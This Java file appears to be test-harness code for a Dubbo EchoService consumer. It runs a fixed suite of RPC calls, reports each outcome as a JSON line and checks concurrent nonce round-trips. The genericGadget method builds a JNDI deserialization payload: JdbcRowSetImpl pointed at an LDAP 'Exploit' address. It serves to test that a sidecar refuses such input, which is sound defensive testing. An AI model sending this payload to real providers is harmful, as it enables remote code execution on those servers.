package com.example.dubbo;

import com.alibaba.fastjson2.JSON;
import com.example.EchoException;
import com.example.EchoService;
import com.example.Person;
import java.util.ArrayList;
import java.util.Date;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.apache.dubbo.config.ReferenceConfig;
import org.apache.dubbo.rpc.RpcException;
import org.apache.dubbo.rpc.service.GenericService;

/**
 * The calls the consumer CLI and the golden generator make, each reported as one
 * line: RESULT {"call":..., "outcome":"ok"|"exception"|"timeout"|"error", "value"|"message":...}.
 */
final class Calls {
    static final String INTERFACE = "com.example.EchoService";

    final EchoService echo;
    final GenericService generic;
    int ok;
    int failed;

    Calls(EchoService echo, GenericService generic) {
        this.echo = echo;
        this.generic = generic;
    }

    /** Builds both references against a direct URL (no registry). Call before bootstrap start. */
    static ReferenceConfig<EchoService> reference(String url, String version, String group, int timeoutMs) {
        ReferenceConfig<EchoService> ref = new ReferenceConfig<>();
        ref.setInterface(EchoService.class);
        configure(ref, url, version, group, timeoutMs);
        return ref;
    }

    static ReferenceConfig<GenericService> genericReference(String url, String version, String group, int timeoutMs) {
        ReferenceConfig<GenericService> ref = new ReferenceConfig<>();
        ref.setInterface(INTERFACE);
        ref.setGeneric("true");
        configure(ref, url, version, group, timeoutMs);
        return ref;
    }

    private static void configure(ReferenceConfig<?> ref, String url, String version, String group, int timeoutMs) {
        ref.setUrl(url);
        ref.setVersion(version);
        if (group != null && !group.isEmpty()) ref.setGroup(group);
        ref.setTimeout(timeoutMs);
        ref.setRetries(0);
        ref.setCheck(false);
    }

    static Person samplePerson() {
        return new Person("Ada", 36, 1L << 40, new ArrayList<>(List.of("math", "engines")));
    }

    /** Runs one call and prints its RESULT line; returns true when it succeeded. */
    boolean report(String call, Callable<Object> body) {
        Map<String, Object> line = new LinkedHashMap<>();
        line.put("call", call);
        long started = System.nanoTime();
        try {
            Object value = body.call();
            line.put("outcome", "ok");
            line.put("value", value);
            ok++;
        } catch (EchoException e) {
            line.put("outcome", "exception");
            line.put("type", e.getClass().getName());
            line.put("message", e.getMessage());
            ok++;
        } catch (RpcException e) {
            line.put("outcome", e.isTimeout() ? "timeout" : "error");
            line.put("type", e.getClass().getName());
            line.put("message", e.getMessage());
            failed++;
        } catch (Exception e) {
            line.put("outcome", "error");
            line.put("type", e.getClass().getName());
            line.put("message", String.valueOf(e.getMessage()));
            failed++;
        }
        line.put("ms", (System.nanoTime() - started) / 1_000_000);
        System.out.println("RESULT " + JSON.toJSONString(line));
        System.out.flush();
        return "ok".equals(line.get("outcome")) || "exception".equals(line.get("outcome"));
    }

    Object mixed() {
        Map<String, Integer> counts = new LinkedHashMap<>();
        counts.put("a", 1);
        counts.put("b", 70000);
        return echo.mixed(true, 1.5, new byte[] {1, 2, 3, (byte) 0xff}, new Date(1700000000000L),
                List.of("x", "y"), counts);
    }

    Object genericEcho(String text) {
        return generic.$invoke("echo", new String[] {"java.lang.String"}, new Object[] {text});
    }

    Object genericGreet() {
        Map<String, Object> person = new LinkedHashMap<>();
        person.put("name", "Grace");
        person.put("age", 45);
        return generic.$invoke("greet", new String[] {"com.example.Person"}, new Object[] {person});
    }

    /**
     * A generic call whose argument map names the JNDI gadget in its "class" entry: the
     * provider's PojoUtils.realize would build com.sun.rowset.JdbcRowSetImpl from it.
     * For the sidecar's ingress class scan, which must refuse it.
     */
    Object genericGadget() {
        Map<String, Object> gadget = new LinkedHashMap<>();
        gadget.put("class", "com.sun.rowset.JdbcRowSetImpl");
        gadget.put("dataSourceName", "ldap://127.0.0.1:1389/Exploit");
        gadget.put("autoCommit", true);
        return generic.$invoke("greet", new String[] {"com.example.Person"}, new Object[] {gadget});
    }

    /** N calls from min(N, 64) threads, each checking its own nonce comes back. */
    Object concurrent(int n) throws Exception {
        ExecutorService pool = Executors.newFixedThreadPool(Math.max(1, Math.min(n, 64)));
        try {
            List<Future<Boolean>> futures = new ArrayList<>();
            for (int i = 0; i < n; i++) {
                String token = "t" + i + "-" + System.nanoTime();
                futures.add(pool.submit(() -> ("nonce:" + token).equals(echo.nonce(token))));
            }
            int matched = 0;
            int mismatched = 0;
            int errors = 0;
            for (Future<Boolean> f : futures) {
                try {
                    if (f.get()) matched++;
                    else mismatched++;
                } catch (Exception e) {
                    errors++;
                }
            }
            Map<String, Integer> summary = new LinkedHashMap<>();
            summary.put("calls", n);
            summary.put("matched", matched);
            summary.put("mismatched", mismatched);
            summary.put("errors", errors);
            if (matched != n) throw new IllegalStateException("concurrent: " + JSON.toJSONString(summary));
            return summary;
        } finally {
            pool.shutdownNow();
        }
    }

    /** Every kind of call once, in a fixed order. */
    void suite() {
        report("echo", () -> echo.echo("hello"));
        report("add", () -> echo.add(2, 40));
        report("addLong", () -> echo.addLong(1L << 53, 1));
        report("greet", () -> echo.greet(samplePerson()));
        report("mixed", this::mixed);
        report("nothing", () -> echo.nothing());
        report("fail", () -> echo.fail("boom"));
        report("generic", () -> genericEcho("generic hi"));
        report("genericGreet", this::genericGreet);
        report("nonce", () -> echo.nonce("n1"));
    }
}
